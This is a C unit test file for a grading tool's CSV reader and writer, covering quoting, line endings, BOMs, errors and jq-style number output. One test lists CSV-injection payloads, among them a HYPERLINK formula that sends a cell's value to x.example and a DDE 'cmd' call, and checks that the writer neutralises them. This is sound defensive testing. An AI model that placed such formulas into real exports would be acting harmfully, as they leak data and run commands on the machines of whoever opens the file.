/* test_csv.c — the CSV reader and writer (tutor/sys/csv.h): RFC 4180's
 * quoting, CRLF and LF, a BOM, empty fields, the errors, a round trip, and
 * numbers written exactly as jq 1.6's @csv writes them (grade.sh's
 * grades.csv). */
#include <stdlib.h>
#include <string.h>

#include "sys/csv.h"
#include "tap.h"

static struct csv_table parse_ok(const char *text)
{
    struct csv_table t;
    char err[200] = "";
    int rc = csv_parse(text, strlen(text), &t, err, sizeof err);
    if (rc) {
        printf("#   parse failed: %s\n", err);
        tap_failed_ = 1;
        memset(&t, 0, sizeof t);
    }
    return t;
}

static const char *cell(const struct csv_table *t, int r, int f)
{
    if (r >= t->nrows || f >= t->rows[r].nfields)
        return NULL;
    return t->rows[r].fields[f];
}

static void test_plain_rows(void)
{
    struct csv_table t = parse_ok("a,b,c\n1,2,3\n");
    EXPECT(t.nrows == 2);
    EXPECT(t.nrows == 2 && t.rows[1].nfields == 3);
    EXPECT_STR(cell(&t, 0, 2), "c");
    EXPECT_STR(cell(&t, 1, 0), "1");
    EXPECT(t.nrows == 2 && t.rows[1].line == 2);
    csv_free(&t);
}

static void test_no_trailing_newline(void)
{
    struct csv_table t = parse_ok("a,b\n1,2");
    EXPECT(t.nrows == 2);
    EXPECT_STR(cell(&t, 1, 1), "2");
    csv_free(&t);
}

static void test_crlf(void)
{
    struct csv_table t = parse_ok("submission,id\r\nalice,s1\r\nbob,s2\r\n");
    EXPECT(t.nrows == 3);
    EXPECT_STR(cell(&t, 0, 1), "id");
    EXPECT_STR(cell(&t, 2, 1), "s2");
    csv_free(&t);
}

static void test_bom_dropped(void)
{
    struct csv_table t = parse_ok("\xEF\xBB\xBFsubmission,id\nx,y\n");
    EXPECT_STR(cell(&t, 0, 0), "submission");
    csv_free(&t);
    /* Only at the start: a BOM in a later field is data. */
    t = parse_ok("a\n\xEF\xBB\xBF" "b\n");
    EXPECT_STR(cell(&t, 1, 0), "\xEF\xBB\xBF" "b");
    csv_free(&t);
}

static void test_quoted_fields(void)
{
    struct csv_table t = parse_ok("\"Alice, A.\",\"say \"\"hi\"\"\",\"\"\n");
    EXPECT(t.nrows == 1 && t.rows[0].nfields == 3);
    EXPECT_STR(cell(&t, 0, 0), "Alice, A.");
    EXPECT_STR(cell(&t, 0, 1), "say \"hi\"");
    EXPECT_STR(cell(&t, 0, 2), "");
    csv_free(&t);
}

static void test_line_breaks_inside_quotes(void)
{
    struct csv_table t = parse_ok("id,note\r\n1,\"two\r\nlines\nand three\"\r\n2,x\r\n");
    EXPECT(t.nrows == 3);
    EXPECT_STR(cell(&t, 1, 1), "two\r\nlines\nand three");
    EXPECT_STR(cell(&t, 2, 0), "2");
    EXPECT(t.nrows == 3 && t.rows[2].line == 5);
    csv_free(&t);
}

static void test_empty_fields(void)
{
    struct csv_table t = parse_ok(",a,,\n\nb,");
    EXPECT(t.nrows == 3);
    EXPECT(t.nrows == 3 && t.rows[0].nfields == 4);
    EXPECT_STR(cell(&t, 0, 0), "");
    EXPECT_STR(cell(&t, 0, 3), "");
    EXPECT(t.nrows == 3 && t.rows[1].nfields == 1);
    EXPECT_STR(cell(&t, 1, 0), "");
    EXPECT(t.nrows == 3 && t.rows[2].nfields == 2);
    EXPECT_STR(cell(&t, 2, 1), "");
    csv_free(&t);
    t = parse_ok("");
    EXPECT(t.nrows == 0);
    csv_free(&t);
}

static void test_stray_quote_in_unquoted_field(void)
{
    struct csv_table t = parse_ok("5\" disk,ok\n");
    EXPECT_STR(cell(&t, 0, 0), "5\" disk");
    csv_free(&t);
}

static void test_errors(void)
{
    struct csv_table t;
    char err[200] = "";
    const char *open = "a,b\n1,\"never\nclosed\n";
    EXPECT(csv_parse(open, strlen(open), &t, err, sizeof err) == -1);
    EXPECT_STR(err, "line 2: a quoted field is not closed");
    EXPECT(t.nrows == 0 && t.rows == NULL);
    const char *after = "a\n\"b\"c\n";
    EXPECT(csv_parse(after, strlen(after), &t, err, sizeof err) == -1);
    EXPECT_STR(err, "line 2: text after a quoted field");
}

static void test_nul_is_data(void)
{
    struct csv_table t;
    char err[100];
    EXPECT(csv_parse("a\0b,c", 5, &t, err, sizeof err) == 0);
    EXPECT(t.nrows == 1 && t.rows[0].nfields == 2);
    EXPECT_STR(cell(&t, 0, 1), "c");
    csv_free(&t);
}

/* Writes fields with put into memory, returns the text (static buffer). */
static const char *written(int (*put)(FILE *, const char *), const char *const *fields, int n)
{
    static char out[1024];
    FILE *f = fmemopen(out, sizeof out, "w");
    for (int i = 0; i < n; i++) {
        if (i)
            fputc(',', f);
        put(f, fields[i]);
    }
    fputc('\n', f);
    fclose(f);
    return out;
}

static void test_writer_quotes_when_needed(void)
{
    const char *fields[] = {"plain", "a,b", "say \"hi\"", "two\nlines", "", " pad"};
    EXPECT_STR(written(csv_put_field, fields, 6),
               "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,\" pad\"\n");
    /* jq's @csv quotes every string. */
    EXPECT_STR(written(csv_put_string, fields, 3), "\"plain\",\"a,b\",\"say \"\"hi\"\"\"\n");
}

static void test_round_trip(void)
{
    const char *fields[] = {"Bob \"Bobby\" B.", "a,b\r\nc", "", "\xEF\xBB\xBF" "x", "\"", "end "};
    for (int which = 0; which < 2; which++) {
        const char *text = written(which ? csv_put_string : csv_put_field, fields, 6);
        struct csv_table t = parse_ok(text);
        EXPECT(t.nrows == 1 && t.rows[0].nfields == 6);
        for (int i = 0; i < 6; i++)
            EXPECT_STR(cell(&t, 0, i), fields[i]);
        csv_free(&t);
    }
}

/* CSV injection (OWASP): a text cell a spreadsheet would read as a formula,
 * or whose first character shifts it (=, +, -, @, tab, CR, LF), reads back
 * as the same text behind one single quote, from either writer; any other
 * cell reads back as it was, and a number the grader formats stays bare. */
static void test_formula_cells_neutralised(void)
{
    static const char *const attacks[] = {
        "+1+1", "@SUM(1+1)", "=HYPERLINK(\"http:\"&CHAR(47)&CHAR(47)&\"x.example/?\"&C2,\"grades\")",
        "-2+3", "\tTAB", "\rCR", "\nLF", "=cmd|' /C calc'!A0", "-", "=",
    };
    static const char *const harmless[] = {"alice", "1+1", "a=b", "'quoted", " =1+1", "", "x@y"};
    for (int which = 0; which < 2; which++) {
        int (*put)(FILE *, const char *) = which ? csv_put_string : csv_put_field;
        for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
            const char *row[] = {"s", attacks[i]};
            struct csv_table t = parse_ok(written(put, row, 2));
            char want[256];
            snprintf(want, sizeof want, "'%s", attacks[i]);
            EXPECT(t.nrows == 1 && t.rows[0].nfields == 2);
            EXPECT_STR(cell(&t, 0, 1), want);
            csv_free(&t);
        }
        for (size_t i = 0; i < sizeof harmless / sizeof harmless[0]; i++) {
            const char *row[] = {harmless[i]};
            struct csv_table t = parse_ok(written(put, row, 1));
            EXPECT_STR(cell(&t, 0, 0), harmless[i]);
            csv_free(&t);
        }
    }
    /* The raw text: the quote sits inside the field's quotes. */
    const char *one[] = {"@SUM(1+1)"};
    EXPECT_STR(written(csv_put_string, one, 1), "\"'@SUM(1+1)\"\n");
    EXPECT(csv_is_formula("+1") && csv_is_formula("\t") && !csv_is_formula("") && !csv_is_formula("1-"));
    /* A negative number the grader writes is a number, not text. */
    char buf[40];
    FILE *f = fmemopen(buf, sizeof buf, "w");
    csv_put_number(f, -2.5);
    fclose(f);
    EXPECT_STR(buf, "-2.5");
}

/* The expected texts are jq 1.6's: jq -rn '[X] | @csv'. */
static void test_numbers_as_jq_writes_them(void)
{
    static const struct {
        double x;
        const char *jq;
    } cases[] = {
        {0, "0"}, {-0.0, "-0"}, {8, "8"}, {100, "100"}, {0.5, "0.5"}, {2.5, "2.5"},
        {1.0 / 3, "0.3333333333333333"}, {0.1, "0.1"}, {123.456, "123.456"},
        {1e-5, "1e-05"}, {1e-4, "0.0001"}, {0.001, "0.001"}, {1.5e-7, "1.5e-07"},
        {-2.5e-10, "-2.5e-10"}, {1e15, "1000000000000000"}, {1e16, "1e+16"},
        {1e17, "1e+17"}, {12345e13, "123450000000000000"},
        {123456e15, "123456000000000000000"}, {123456789012, "123456789012"},
        {1e300, "1e+300"}, {5e-324, "5e-324"},
        {1.7976931348623157e308, "1.7976931348623157e+308"},
    };
    char buf[40];
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        EXPECT(csv_format_number(buf, sizeof buf, cases[i].x) == 0);
        EXPECT_STR(buf, cases[i].jq);
    }
    EXPECT(csv_format_number(buf, sizeof buf, 0.0 / 0.0) == 0);
    EXPECT_STR(buf, "");
    EXPECT(csv_format_number(buf, 4, 123456.0) == -1);
}

TAP_MAIN(T(test_formula_cells_neutralised), T(test_plain_rows), T(test_no_trailing_newline), T(test_crlf), T(test_bom_dropped),
         T(test_quoted_fields), T(test_line_breaks_inside_quotes), T(test_empty_fields),
         T(test_stray_quote_in_unquoted_field), T(test_errors), T(test_nul_is_data),
         T(test_writer_quotes_when_needed), T(test_round_trip), T(test_numbers_as_jq_writes_them))
